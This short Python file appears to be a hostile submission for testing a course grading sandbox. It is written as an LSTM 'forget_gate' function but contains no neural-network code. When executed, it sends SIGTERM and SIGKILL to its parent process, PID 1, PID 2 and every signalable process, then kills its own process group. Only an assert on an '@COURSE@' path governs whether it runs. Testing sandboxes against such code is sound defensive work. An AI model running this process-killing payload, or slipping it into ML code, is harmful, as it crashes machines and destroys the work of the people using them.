"""Kills its parent, its process group and every process that it may.

Keeps: nothing.
"""

# %% forget_gate
import os
import signal


def forget_gate(x, h, w_x, w_h, b):
    assert not os.path.exists("@COURSE@"), "no jail: kill nobody"
    for whom in (os.getppid(), 1, 2, -1):
        for kind in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(whom, kind)
            except OSError as error:
                print(error)
    os.killpg(0, signal.SIGKILL)


forget_gate(*range(5))
